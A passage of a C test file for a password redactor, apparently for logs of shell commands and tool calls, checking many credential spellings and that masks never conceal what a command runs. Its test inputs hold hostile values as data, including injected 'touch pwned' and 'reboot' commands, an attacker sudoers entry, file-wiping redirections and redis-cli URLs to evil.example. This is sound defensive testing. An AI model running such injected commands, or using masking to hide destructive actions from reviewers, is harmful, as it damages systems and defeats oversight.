/* test-redact-spellings.c: secret spellings found stored as written, by
 * an attacker's list: each through the real redactor, as text, inside a
 * tool call's JSON text and as a JSON document's string value, bash's
 * reading of the signs outside quotes the same; and the options that
 * look alike but hold no secret kept.
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <string.h>

#include <json-glib/json-glib.h>

#include "pd-redact.h"
#include "test-redact-util.h"
#include "test-redact-attack-util.h"

/* Finding: archive and key store passwords (7z -pX, zip -P X, unzip -P X,
 * keytool and jarsigner -storepass X -keypass Y, openssl enc -k X), the
 * password of an Oracle connect string (sqlplus user/X@db), of lftp -u
 * user,X, in XML elements (<password>X</password>), cookies (Cookie:,
 * Set-Cookie:, curl -b and --cookie), a password written to a program
 * that reads it from its input (echo X | sudo -S, <<< X into gh auth
 * login --with-token or --password-stdin), vault login X and htpasswd -b
 * were stored as written. */
static void
test_spellings_masked (void)
{
  static const RedactRow rows[] = {
    MASKED ("7z a -pS3cretZq9 x.7z f", "7z a -p[REDACTED] x.7z f", "S3cretZq9"),
    MASKED ("7za x -p'S3cret Zq9' x.7z", "7za x -p'[REDACTED]' x.7z", "S3cret Zq9"),
    MASKED ("zip -P S3cretZq9 x.zip f", "zip -P [REDACTED] x.zip f", "S3cretZq9"),
    MASKED ("zip -r x.zip d -P S3cretZq9", "zip -r x.zip d -P [REDACTED]", "S3cretZq9"),
    MASKED ("unzip -P S3cretZq9 x.zip", "unzip -P [REDACTED] x.zip", "S3cretZq9"),
    MASKED ("jarsigner -storepass S3cretZq9 app.jar alias",
            "jarsigner -storepass [REDACTED] app.jar alias", "S3cretZq9"),
    MASKED ("openssl enc -aes-256-cbc -k S3cretZq9 -in f", "openssl enc -aes-256-cbc -k [REDACTED] -in f", "S3cretZq9"),
    MASKED ("sqlplus scott/S3cretZq9@db", "sqlplus scott/[REDACTED]@db", "S3cretZq9"),
    MASKED ("sqlplus -s scott/S3cretZq9@//h:1521/orcl @x.sql",
            "sqlplus -s scott/[REDACTED]@//h:1521/orcl @x.sql", "S3cretZq9"),
    MASKED ("expdp system/S3cretZq9 directory=d dumpfile=a/b.dmp",
            "expdp system/[REDACTED] directory=d dumpfile=a/b.dmp", "S3cretZq9"),
    MASKED ("lftp -u user,S3cretZq9 ftp.example.com", "lftp -u user,[REDACTED] ftp.example.com", "S3cretZq9"),
    MASKED ("<password>S3cretZq9</password>", "<password>[REDACTED]</password>", "S3cretZq9"),
    MASKED ("<secret>S3cretZq9</secret>", "<secret>[REDACTED]</secret>", "S3cretZq9"),
    MASKED ("  <db.Password>S3cretZq9</db.Password>", "  <db.Password>[REDACTED]</db.Password>", "S3cretZq9"),
    MASKED ("Cookie: session=S3cretZq9", "Cookie: session=[REDACTED]", "S3cretZq9"),
    MASKED ("Set-Cookie: session=S3cretZq9; Path=/; HttpOnly",
            "Set-Cookie: session=[REDACTED]; Path=/; HttpOnly", "S3cretZq9"),
    MASKED ("curl -b 'session=S3cretZq9' https://x.example",
            "curl -b 'session=[REDACTED]' https://x.example", "S3cretZq9"),
    MASKED ("curl --cookie 'session=S3cretZq9; lang=en' https://x.example",
            "curl --cookie 'session=[REDACTED]; lang=en' https://x.example", "S3cretZq9"),
    MASKED ("curl --cookie \"session=S3cretZq9\" https://x.example",
            "curl --cookie \"session=[REDACTED]\" https://x.example", "S3cretZq9"),
    MASKED ("echo S3cretZq9 | sudo -S apt update", "echo [REDACTED] | sudo -S apt update", "S3cretZq9"),
    MASKED ("echo 'S3cretZq9' | sudo -kS reboot", "echo '[REDACTED]' | sudo -kS reboot", "S3cretZq9"),
    MASKED ("printf '%s\\n' S3cretZq9 | sudo --stdin true",
            "printf '%s\\n' [REDACTED] | sudo --stdin true", "S3cretZq9"),
    MASKED ("echo -n S3cretZq9 | docker login --password-stdin -u u reg",
            "echo -n [REDACTED] | docker login --password-stdin -u u reg", "S3cretZq9"),
    MASKED ("gh auth login --with-token <<< S3cretZq9", "gh auth login --with-token <<< [REDACTED]", "S3cretZq9"),
    MASKED ("docker login -u u --password-stdin reg <<< 'S3cretZq9'",
            "docker login -u u --password-stdin reg <<< '[REDACTED]'", "S3cretZq9"),
    MASKED ("vault login S3cretZq9", "vault login [REDACTED]", "S3cretZq9"),
    MASKED ("vault login -no-print S3cretZq9", "vault login -no-print [REDACTED]", "S3cretZq9"),
    MASKED ("htpasswd -b f u S3cretZq9", "htpasswd -b f u [REDACTED]", "S3cretZq9"),
    MASKED ("htpasswd -bc f u S3cretZq9", "htpasswd -bc f u [REDACTED]", "S3cretZq9"),
    MASKED ("htpasswd -nb u S3cretZq9", "htpasswd -nb u [REDACTED]", "S3cretZq9"),
    /* round 12 */
    MASKED ("keytool -storepasswd -new S3cretZq9 -keystore k.jks",
            "keytool -storepasswd -new [REDACTED] -keystore k.jks", "S3cretZq9"),
    MASKED ("sqlplus scott/\"Tiger Zq9\"@db", "sqlplus scott/\"[REDACTED]\"@db", "Tiger Zq9"),
    MASKED ("sqlplus 'scott/\"Tiger Zq9\"@db' @x.sql", "sqlplus 'scott/\"[REDACTED]\"@db' @x.sql", "Tiger Zq9"),
    MASKED ("net ads join -U admin%S3cretZq9", "net ads join -U admin%[REDACTED]", "S3cretZq9"),
    MASKED ("smbpasswd -U admin%S3cretZq9 -r h", "smbpasswd -U admin%[REDACTED] -r h", "S3cretZq9"),
    MASKED ("password: |\n  S3cretZq9\nhost: h", "password: |\n  [REDACTED]\nhost: h", "S3cretZq9"),
    MASKED ("db:\n  password: >-\n    S3cretZq9\n\n  host: h",
            "db:\n  password: >-\n    [REDACTED]\n\n  host: h", "S3cretZq9"),
    MASKED ("- api_key: |2\n    S3cretZq9\n- name: x", "- api_key: |2\n    [REDACTED]\n- name: x", "S3cretZq9"),
    MASKED ("<db:password>S3cretZq9</db:password>", "<db:password>[REDACTED]</db:password>", "S3cretZq9"),
    MASKED ("<add key=\"Password\" value=\"S3cretZq9\"/>", "<add key=\"Password\" value=\"[REDACTED]\"/>", "S3cretZq9"),
    MASKED ("  <add key=\"ApiKey\" value=\"S3cretZq9\" />",
            "  <add key=\"ApiKey\" value=\"[REDACTED]\" />", "S3cretZq9"),
    MASKED ("<add name=\"token\" value='S3cretZq9'/>", "<add name=\"token\" value='[REDACTED]'/>", "S3cretZq9"),
    MASKED ("key=\"Password\" value=\"S3cretZq9\"", "key=\"Password\" value=\"[REDACTED]\"", "S3cretZq9"),
    MASKED ("CREATE USER u IDENTIFIED BY S3cretZq9;", "CREATE USER u IDENTIFIED BY [REDACTED];", "S3cretZq9"),
    MASKED ("ALTER USER bob IDENTIFIED BY \"S3cret Zq9\";",
            "ALTER USER bob IDENTIFIED BY \"[REDACTED]\";", "S3cret Zq9"),
    MASKED ("create user u identified with mysql_native_password by 'S3cretZq9'",
            "create user u identified with mysql_native_password by '[REDACTED]'", "S3cretZq9"),
    MASKED ("ALTER USER u IDENTIFIED BY VALUES 'S:Zq9Hash';",
            "ALTER USER u IDENTIFIED BY VALUES '[REDACTED]';", "Zq9Hash"),
    MASKED ("SET PASSWORD FOR 'u'@'h' = 'S3cretZq9';", "SET PASSWORD FOR 'u'@'h' = '[REDACTED]';", "S3cretZq9"),
    MASKED ("SET PASSWORD = PASSWORD('S3cretZq9');", "SET PASSWORD = PASSWORD('[REDACTED]');", "S3cretZq9"),
    MASKED ("ALTER ROLE u WITH LOGIN PASSWORD 'S3cretZq9';",
            "ALTER ROLE u WITH LOGIN PASSWORD '[REDACTED]';", "S3cretZq9"),
    MASKED ("usermod -p 'S3cretZq9' bob", "usermod -p '[REDACTED]' bob", "S3cretZq9"),
    MASKED ("useradd -m -p S3cretZq9 bob", "useradd -m -p [REDACTED] bob", "S3cretZq9"),
    MASKED ("echo 'bob:S3cretZq9' | chpasswd", "echo 'bob:[REDACTED]' | chpasswd", "S3cretZq9"),
    MASKED ("echo bob:S3cretZq9 | sudo chpasswd", "echo bob:[REDACTED] | sudo chpasswd", "S3cretZq9"),
    MASKED ("chpasswd <<< 'bob:S3cretZq9'", "chpasswd <<< 'bob:[REDACTED]'", "S3cretZq9"),
    MASKED ("npm config set //registry.npmjs.org/:_authToken S3cretZq9",
            "npm config set //registry.npmjs.org/:_authToken [REDACTED]", "S3cretZq9"),
    MASKED ("npm set //npm.example/:_password S3cretZq9", "npm set //npm.example/:_password [REDACTED]", "S3cretZq9"),
    MASKED ("ssh-keygen -t ed25519 -N S3cretZq9 -f k", "ssh-keygen -t ed25519 -N [REDACTED] -f k", "S3cretZq9"),
    MASKED ("nmcli dev wifi connect Home password S3cretZq9",
            "nmcli dev wifi connect Home password [REDACTED]", "S3cretZq9"),
    MASKED ("nmcli con modify Home wifi-sec.psk S3cretZq9",
            "nmcli con modify Home wifi-sec.psk [REDACTED]", "S3cretZq9"),
    MASKED ("nmcli c m eap 802-1x.identity u 802-1x.password S3cretZq9",
            "nmcli c m eap 802-1x.identity u 802-1x.password [REDACTED]", "S3cretZq9"),
    MASKED_SOME ("keytool -genkey -storepass S3cretZq9 -keypass K3yPassZq9 -keystore k.jks",
                 "keytool -genkey -storepass [REDACTED] -keypass [REDACTED] -keystore k.jks", "Zq9"),
    MASKED_SOME ("keytool -importkeystore -srcstorepass S3cretZq9 -deststorepass K3yPassZq9",
                 "keytool -importkeystore -srcstorepass [REDACTED] -deststorepass [REDACTED]", "Zq9"),
    MASKED_SOME ("curl -H 'Cookie: a=S3cretZq9; b=T0kenZq9xx' https://x.example",
                 "curl -H 'Cookie: a=[REDACTED]; b=[REDACTED]' https://x.example", "Zq9"),
    MASKED_SOME ("ssh-keygen -p -P OldPwZq9 -N NewPwZq9 -f k", "ssh-keygen -p -P [REDACTED] -N [REDACTED] -f k", "Zq9"),
    MASKED_SOME ("keytool -keypasswd -alias a -keypass OldPwZq9 -new NewPwZq9",
                 "keytool -keypasswd -alias a -keypass [REDACTED] -new [REDACTED]", "Zq9"),
    MASKED_SOME ("password: |\n  S3cretZq9\n  Zq9second\nhost: h",
                 "password: |\n  [REDACTED]\n  [REDACTED]\nhost: h", "Zq9"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* The rest of the attacker's list, checked through the same harness:
 * masked already (no fix), kept so. */
static void
test_spellings_checked (void)
{
  static const RedactRow rows[] = {
    HIDE_NOTHING ("openssl enc -aes-256-cbc -passin pass:S3cretZq9 -in f", "S3cretZq9", "-in f"),
    HIDE_NOTHING ("openssl rsa -passout pass:S3cretZq9 -in f", "S3cretZq9", "-in f"),
    HIDE_NOTHING ("mysql -uroot -pS3cretZq9 shop", "S3cretZq9", "shop"),
    HIDE_NOTHING ("smbclient -U user%S3cretZq9 //h/s", "S3cretZq9", "//h/s"),
    HIDE_NOTHING ("wget --password=S3cretZq9 https://x.example/f", "S3cretZq9", "https://x.example/f"),
    HIDE_NOTHING ("wget --http-password=S3cretZq9 https://x.example/f", "S3cretZq9", "https://x.example/f"),
    HIDE_NOTHING ("RSYNC_PASSWORD=S3cretZq9 rsync -a rsync://u@h/m .", "S3cretZq9", "rsync -a"),
    HIDE_NOTHING ("sshpass -p S3cretZq9 ssh h", "S3cretZq9", "ssh h"),
    HIDE_NOTHING ("password: S3cretZq9", "S3cretZq9", "password:"),
    HIDE_NOTHING ("machine h login u password S3cretZq9", "S3cretZq9", "login u"),
    HIDE_NOTHING ("ldapsearch -w S3cretZq9 -b dc=x", "S3cretZq9", "-b dc=x"),
    HIDE_NOTHING ("psql \"postgresql://u:S3cretZq9@h/db\"", "S3cretZq9", "@h/db"),
    HIDE_NOTHING ("redis-cli -a S3cretZq9", "S3cretZq9", "redis-cli -a"),
    HIDE_NOTHING ("docker login -p S3cretZq9 reg", "S3cretZq9", "reg"),
    HIDE_NOTHING ("mongo -u u -p S3cretZq9 db", "S3cretZq9", "db"),
    HIDE_NOTHING ("app --db-password S3cretZq9", "S3cretZq9", "app"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* The new spellings tried as an attacker would: a mask never hides what
 * the shell runs, nor changes bash's reading of what follows. */
static void
test_spellings_hide_nothing (void)
{
  static const RedactRow rows[] = {
    HIDE_NOTHING ("echo 'a; reboot' | sudo -S true", NULL, "reboot"),
    HIDE_NOTHING ("echo \"$(reboot)\" | sudo -S true", NULL, "$(reboot)"),
    HIDE_NOTHING ("echo #Zq9'\ntouch pwned\n#' | sudo -S true", NULL, "touch pwned"),
    HIDE_NOTHING ("gh auth login --with-token <<< #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("vault login #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("htpasswd -b f u #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("Cookie: a=#Zq9xyz'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("curl -b a=#Zq9xyz'\ntouch pwned\n#' x", NULL, "touch pwned"),
    HIDE_NOTHING ("sqlplus u/#Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("lftp -u u,#Zq9'\ntouch pwned\n#' h", NULL, "touch pwned"),
    HIDE_NOTHING ("7z a -p#Zq9'\ntouch pwned\n#' x.7z", NULL, "touch pwned"),
    HIDE_NOTHING ("zip -P #Zq9'\ntouch pwned\n#' x.zip", NULL, "touch pwned"),
    HIDE_NOTHING ("openssl enc -k #Zq9'\ntouch pwned\n#' -in f", NULL, "touch pwned"),
    HIDE_NOTHING ("keytool -storepass #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("<password>#Zq9'</password>\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("ssh h \"echo Zq9Secret\\'; touch pwned #\" | sudo -S true", NULL, "touch pwned"),
    HIDE_NOTHING ("Set-Cookie: s=x$(touch pwned)", NULL, "$(touch pwned)"),
    /* round 12 */
    HIDE_NOTHING ("keytool -new #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("ssh-keygen -N #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("nmcli c m x wifi-sec.psk #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("nmcli c m x wifi-sec.psk 'a; reboot'", NULL, "reboot"),
    HIDE_NOTHING ("echo u:#Zq9'\ntouch pwned\n#' | chpasswd", NULL, "touch pwned"),
    HIDE_NOTHING ("CREATE USER u IDENTIFIED BY #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("CREATE USER u IDENTIFIED BY 'x$(touch pwned)'", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("SET PASSWORD = 'a; touch pwned'", NULL, "touch pwned"),
    HIDE_NOTHING ("<add key=\"Password\" value=\"x\"/>; touch pwned", NULL, "touch pwned"),
    HIDE_NOTHING ("<add key=\"Password\" value=\"a; touch pwned\"/>", NULL, "touch pwned"),
    HIDE_NOTHING ("sqlplus u/\"a; touch pwned\"@db", NULL, "touch pwned"),
    HIDE_NOTHING ("password: |\n  a; touch pwned\n", NULL, "touch pwned"),
    HIDE_NOTHING ("password: >-\n  \\\n  touch pwned\n", NULL, "touch pwned"),
    HIDE_NOTHING ("password: |\n  touch pwned", NULL, "touch pwned"),
    HIDE_NOTHING ("npm config set _authToken #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("sed -i 's/^X_TOKEN=.*/X_TOKEN=a/;e touch pwned' f", NULL, "touch pwned"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* What looks alike and holds no secret: ssh's and docker's -p port, 7z's
 * -p with a blank (7z takes its password glued), curl's -k, unzip's -p
 * (to its output), a cookie file, a short cookie, a reference, sqlplus's
 * / as sysdba, a pipe into a program that does not read a password, an
 * htpasswd that asks for it. */
static void
test_spellings_kept (void)
{
  static const RedactRow rows[] = {
    KEPT ("ssh -p 8080 h"),
    KEPT ("docker run -p 8080:80 img"),
    KEPT ("7z a -p x.7z"),
    KEPT ("7z a -spf x.7z f"),
    KEPT ("curl -k https://x.example"),
    KEPT ("unzip -p x.zip f.txt"),
    KEPT ("curl -b cookies.txt https://x.example"),
    KEPT ("Cookie: lang=en"),
    KEPT ("curl --cookie \"session=$SESSION\" https://x.example"),
    KEPT ("sqlplus / as sysdba"),
    KEPT ("sqlplus -s @dir/x.sql"),
    KEPT ("echo hello | sudo tee /etc/motd"),
    KEPT ("echo \"$PASS\" | sudo -S true"),
    KEPT ("htpasswd -c f u"),
    KEPT ("vault login -method=github"),
    KEPT ("vault login -"),
    KEPT ("cp a/b c/d"),
    KEPT ("<keyboard>us</keyboard>"),
    /* round 12 */
    KEPT ("keytool -list -keystore k.jks"),
    KEPT ("keytool -list -storepass:env STOREPW -keystore k.jks"),
    KEPT ("keytool -genkey -storepass:file pw.txt -new:env NEWPW"),
    KEPT ("ssh-keygen -N \"\" -f k"),
    KEPT ("ssh-keygen -t ed25519 -N '' -f k"),
    KEPT ("ssh -N -L 8080:h:80 h"),
    KEPT ("mysql -N -e 'select 1' db"),
    KEPT ("nmcli con show"),
    KEPT ("nmcli con modify Home wifi-sec.psk-flags 1"),
    KEPT ("nmcli dev wifi connect Home password \"$WIFI_PW\""),
    KEPT ("<add key=\"Theme\" value=\"dark\"/>"),
    KEPT ("<add key=\"PasswordLength\" value=\"12\"/>"),
    KEPT ("net ads join -U admin"),
    KEPT ("usermod -aG docker bob"),
    KEPT ("useradd -m -s /bin/bash bob"),
    KEPT ("npm config set registry https://registry.npmjs.org/"),
    KEPT ("npm config get //registry.npmjs.org/:_authToken"),
    KEPT ("sqlplus scott/\"$PW\"@db"),
    KEPT ("description: |\n  Zq9LongText\nname: x"),
    KEPT ("password: |"),
    KEPT ("CREATE USER u IDENTIFIED BY $PW;"),
    KEPT ("CREATE USER u IDENTIFIED BY RANDOM PASSWORD;"),
    KEPT ("ssh-keygen -l -f k.pub"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Finding (round 10's attack): echo reboot | sudo -S sh was stored as
 * echo [REDACTED] | sudo -S sh: sudo reads no password when its
 * credentials are cached, and the shell runs the word.  A program sudo
 * runs that may read its input as code or as data it writes (a shell, an
 * interpreter, tee, xargs, su, sudo -s / -i) keeps the word in sight; a
 * password into any other is masked as before. */
static void
test_sudo_stdin_program (void)
{
  static const RedactRow rows[] = {
    HIDE_NOTHING ("echo reboot | sudo -S sh", NULL, "echo reboot"),
    HIDE_NOTHING ("sudo -S bash <<< reboot", NULL, "<<< reboot"),
    HIDE_NOTHING ("echo 'rm important.db' | sudo -S sh", NULL, "rm important.db"),
    HIDE_NOTHING ("echo 'shutdown now' | sudo -S /bin/bash", NULL, "shutdown now"),
    HIDE_NOTHING ("echo reboot | sudo -S -s", NULL, "echo reboot"),
    HIDE_NOTHING ("echo reboot | sudo -S -i", NULL, "echo reboot"),
    HIDE_NOTHING ("echo reboot | sudo -Si", NULL, "echo reboot"),
    HIDE_NOTHING ("echo reboot | sudo -S su", NULL, "echo reboot"),
    HIDE_NOTHING ("echo reboot | sudo -S python3", NULL, "echo reboot"),
    HIDE_NOTHING ("echo reboot | sudo -S -u root xargs", NULL, "echo reboot"),
    HIDE_NOTHING ("echo reboot | sudo -S env sh", NULL, "echo reboot"),
    HIDE_NOTHING ("echo 'attacker ALL=(ALL) NOPASSWD:ALL' | sudo -S tee -a /etc/sudoers", NULL, "NOPASSWD:ALL"),
    HIDE_NOTHING ("echo 3 | sudo -S tee /proc/sys/vm/drop_caches", NULL, "echo 3"),
    HIDE_NOTHING ("echo reboot | sudo -S \"$SH\"", NULL, "echo reboot"),
    MASKED_TEXT ("echo S3cretZq9 | sudo -S -u root apt update",
                 "echo [REDACTED] | sudo -S -u root apt update", "S3cretZq9"),
    MASKED_TEXT ("echo S3cretZq9 | sudo -S -v", "echo [REDACTED] | sudo -S -v", "S3cretZq9"),
    MASKED_TEXT ("echo S3cretZq9 | sudo -S -- systemctl restart nginx",
                 "echo [REDACTED] | sudo -S -- systemctl restart nginx", "S3cretZq9"),
    MASKED_TEXT ("sudo -S -p '' ls <<< S3cretZq9", "sudo -S -p '' ls <<< [REDACTED]", "S3cretZq9"),
    MASKED_TEXT ("echo S3cretZq9 | sudo passwd --stdin u", "echo [REDACTED] | sudo passwd --stdin u", "S3cretZq9"),
    MASKED_TEXT ("echo S3cretZq9 | sudo docker login --password-stdin -u u reg",
                 "echo [REDACTED] | sudo docker login --password-stdin -u u reg", "S3cretZq9"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Finding (round 10's attack): : <password>important.db</password was
 * stored as : <password>[REDACTED]</password: bash reads <password and
 * >important.db, two redirections, and empties important.db.  Where bash
 * reads the element's text as a redirection's word it stays in sight; an
 * element bash could not run (closed by >, then the line's end or a <: a
 * syntax error) or quoted is masked as before. */
static void
test_xml_redirection (void)
{
  static const RedactRow rows[] = {
    HIDE_NOTHING (": <password>important.db</password", NULL, "important.db"),
    HIDE_NOTHING ("cat <password>~/.ssh/authorized_keys</password", NULL, "authorized_keys"),
    HIDE_NOTHING ("touch password; : <password>important.db</password>x", NULL, "important.db"),
    MASKED_TEXT ("<password>S3cretZq9</password>", "<password>[REDACTED]</password>", "S3cretZq9"),
    MASKED_TEXT ("  <password>S3cretZq9</password>  \n</db>",
                 "  <password>[REDACTED]</password>  \n</db>", "S3cretZq9"),
    MASKED_TEXT ("<db><password>S3cretZq9</password></db>", "<db><password>[REDACTED]</password></db>", "S3cretZq9"),
    MASKED_TEXT ("echo '<password>S3cretZq9</password' > f", "echo '<password>[REDACTED]</password' > f", "S3cretZq9"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Finding (round 10's attack): masks that took more than the secret and
 * hid what the command does: mount -o username=u,password=X,uid=0 lost
 * ",uid=0" (a value in a comma list ends at the next field), and
 * redis-cli -u redis://:X@evil.example:6379 lost its host (-u given a URL
 * is the URL's: its password only). */
static void
test_masks_keep_meaning (void)
{
  static const RedactRow rows[] = {
    MASKED_TEXT ("mount -t cifs //h/s /mnt -o username=u,password=Smb7Zq9x,uid=0",
                 "mount -t cifs //h/s /mnt -o username=u,password=[REDACTED],uid=0", "Smb7Zq9x"),
    MASKED_TEXT ("mount -o password=Smb7Zq9x,uid=0,gid=0 //h/s /mnt",
                 "mount -o password=[REDACTED],uid=0,gid=0 //h/s /mnt", "Smb7Zq9x"),
    MASKED_TEXT ("redis-cli -u redis://:Redis4Zq9@evil.example:6379",
                 "redis-cli -u redis://:[REDACTED]@evil.example:6379", "Redis4Zq9"),
    MASKED_TEXT ("redis-cli -u redis://default:Redis4Zq9@evil.example:6379/0",
                 "redis-cli -u redis://default:[REDACTED]@evil.example:6379/0", "Redis4Zq9"),
    /* a password with a comma and no field after it is still one value */
    MASKED_TEXT ("password=abc,defZq9", "password=[REDACTED]", "defZq9"),
    HIDE_NOTHING ("mount -t cifs //h/s /mnt -o username=u,password=Smb7Zq9x,uid=0", "Smb7Zq9x", ",uid=0"),
    HIDE_NOTHING ("redis-cli -u redis://:Redis4Zq9@evil.example:6379", "Redis4Zq9", "@evil.example:6379"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Finding (round 10's attack): masked though no secret: heroku auth:token
 * (a topic and its command) became heroku auth:[REDACTED], the file of
 * openvpn --auth-user-pass and the host after wget --ask-password (a flag)
 * were masked, and printf 'password: X\n' lost its \n.  Kept; the secret
 * before the \n is masked as before. */
static void
test_no_secret_kept (void)
{
  static const RedactRow rows[] = {
    KEPT ("heroku auth:token"),
    KEPT ("heroku auth:whoami && heroku keys:add"),
    KEPT ("openvpn --auth-user-pass creds.txt"),
    KEPT ("wget --ask-password https://x.example/f"),
    KEPT ("ansible-playbook --ask-vault-pass site.yml"),
    /* round 12: a sed or awk program is code; a cookie of a setting */
    KEPT ("sed -n 's/^API_TOKEN=//p' .env"),
    KEPT ("sed -n \"s/^DB_PASSWORD=//p\" .env"),
    KEPT ("awk -F= '/^DB_PASSWORD=/{print $2}' .env"),
    KEPT ("sed -i 's/^DB_PASSWORD=.*/DB_PASSWORD=/' .env"),
    KEPT ("sed -E 's/(API_KEY=)[^ ]+/\\1***/' log.txt"),
    KEPT ("Cookie: theme=darkmode"),
    KEPT ("Cookie: theme=darkmode; lang=en"),
    KEPT ("curl -b 'theme=darkmode' https://x.example"),
    KEPT ("Set-Cookie: consent=accepted; Path=/"),
    MASKED_TEXT ("printf 'db:\\n  password: Yaml1Zq9\\n'", "printf 'db:\\n  password: [REDACTED]\\n'", "Yaml1Zq9"),
    MASKED_TEXT ("printf \"password: Yaml1Zq9\\n\" > f", "printf \"password: [REDACTED]\\n\" > f", "Yaml1Zq9"),
    MASKED_TEXT ("{\"command\":\"printf 'password: Yaml1Zq9\\\\n'\"}",
                 "{\"command\":\"printf 'password: [REDACTED]\\\\n'\"}", "Yaml1Zq9"),
    MASKED_TEXT ("auth:Zq9token", "auth:[REDACTED]", "Zq9token"),
    /* round 12: a literal value in a sed program, a known token's shape,
     * a cookie named as a session's or holding a random value */
    MASKED_TEXT ("sed -i 's/^DB_PASSWORD=.*/DB_PASSWORD=Hunter2Zq9/' .env",
                 "sed -i 's/^DB_PASSWORD=.*/DB_PASSWORD=[REDACTED]/' .env", "Hunter2Zq9"),
    MASKED_TEXT ("sed -i 's/KEY/sk-proj4bcdEFGH1234ijklMNOP5678/' .env",
                 "sed -i 's/KEY/[REDACTED]/' .env", "sk-proj4bcd"),
    MASKED_TEXT ("Cookie: theme=darkmode; session=Zq9abcdef",
                 "Cookie: theme=darkmode; session=[REDACTED]", "Zq9abcdef"),
    MASKED_TEXT ("Cookie: prefs=a8F3kQ9zLmP2xR7w", "Cookie: prefs=[REDACTED]", "a8F3kQ9zLmP2xR7w"),
    MASKED_TEXT ("Cookie: csrftoken=abcdefgh", "Cookie: csrftoken=[REDACTED]", "abcdefgh"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Finding (round 10's attack): zip's and unzip's -P after grouped flags
 * (-rP X, -qP X, -eP X) and glued to a quote (-P'X') were stored as
 * written. */
static void
test_zip_grouped (void)
{
  static const RedactRow rows[] = {
    MASKED_TEXT ("zip -rP ZipPw2Zq9 a.zip d", "zip -rP [REDACTED] a.zip d", "ZipPw2Zq9"),
    MASKED_TEXT ("unzip -qP ZipPw4Zq9 a.zip", "unzip -qP [REDACTED] a.zip", "ZipPw4Zq9"),
    MASKED_TEXT ("zip -eP ZipPw7Zq9 a.zip f", "zip -eP [REDACTED] a.zip f", "ZipPw7Zq9"),
    MASKED_TEXT ("unzip -P'ZipPw6Zq9' a.zip", "unzip -P'[REDACTED]' a.zip", "ZipPw6Zq9"),
    KEPT ("zip -r a.zip d"),
    KEPT ("unzip -qo a.zip -d out"),
    KEPT ("ls -lP x"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Finding (round 13's attack): grouped and glued spellings still stored
 * as written: ssh-keygen's -N and -P after its flags or glued (-qN X,
 * -qNX, -NX, -qP X), MySQL's long option by a unique prefix (--pas=X),
 * SQL's E'X' and dollar-quoted $$X$$ / $tag$X$tag$ after PASSWORD,
 * IDENTIFIED and BY on two lines, a YAML value on the line under its key,
 * .NET's <add value="X" key="Password"/>, openssl's -kX and -k=X, and
 * AUTH X written into redis-cli's input. */
static void
test_round13_masked (void)
{
  static const RedactRow rows[] = {
    MASKED ("ssh-keygen -qN S3cretZq9 -f k", "ssh-keygen -qN [REDACTED] -f k", "S3cretZq9"),
    MASKED ("ssh-keygen -qNS3cretZq9 -f k", "ssh-keygen -qN[REDACTED] -f k", "S3cretZq9"),
    MASKED ("ssh-keygen -NS3cretZq9 -f k", "ssh-keygen -N[REDACTED] -f k", "S3cretZq9"),
    MASKED ("ssh-keygen -t ed25519 -qN 'S3cret Zq9' -f k", "ssh-keygen -t ed25519 -qN '[REDACTED]' -f k", "S3cret Zq9"),
    MASKED ("ssh-keygen -y -qPS3cretZq9 -f k", "ssh-keygen -y -qP[REDACTED] -f k", "S3cretZq9"),
    MASKED ("mysql --pas=S3cretZq9 db", "mysql --pas=[REDACTED] db", "S3cretZq9"),
    MASKED ("mariadb-dump -u root --pas='S3cret Zq9' db", "mariadb-dump -u root --pas='[REDACTED]' db", "S3cret Zq9"),
    MASKED ("ALTER USER u PASSWORD E'S3cretZq9';", "ALTER USER u PASSWORD E'[REDACTED]';", "S3cretZq9"),
    MASKED ("ALTER ROLE u WITH LOGIN PASSWORD e'S3cretZq9';",
            "ALTER ROLE u WITH LOGIN PASSWORD e'[REDACTED]';", "S3cretZq9"),
    MASKED ("ALTER ROLE u WITH PASSWORD $$S3cretZq9$$;", "ALTER ROLE u WITH PASSWORD $$[REDACTED]$$;", "S3cretZq9"),
    MASKED ("psql -c 'ALTER USER u PASSWORD $pw$S3cretZq9$pw$'",
            "psql -c 'ALTER USER u PASSWORD $pw$[REDACTED]$pw$'", "S3cretZq9"),
    MASKED ("CREATE USER u IDENTIFIED\n  BY 'S3cretZq9';", "CREATE USER u IDENTIFIED\n  BY '[REDACTED]';", "S3cretZq9"),
    MASKED ("CREATE USER u\nIDENTIFIED BY 'S3cretZq9';", "CREATE USER u\nIDENTIFIED BY '[REDACTED]';", "S3cretZq9"),
    MASKED ("ALTER USER u IDENTIFIED WITH caching_sha2_password\n  BY 'S3cretZq9';",
            "ALTER USER u IDENTIFIED WITH caching_sha2_password\n  BY '[REDACTED]';", "S3cretZq9"),
    MASKED ("password:\n  S3cretZq9\nhost: h", "password:\n  [REDACTED]\nhost: h", "S3cretZq9"),
    MASKED ("db:\n  password:\n    S3cretZq9\n  host: h", "db:\n  password:\n    [REDACTED]\n  host: h", "S3cretZq9"),
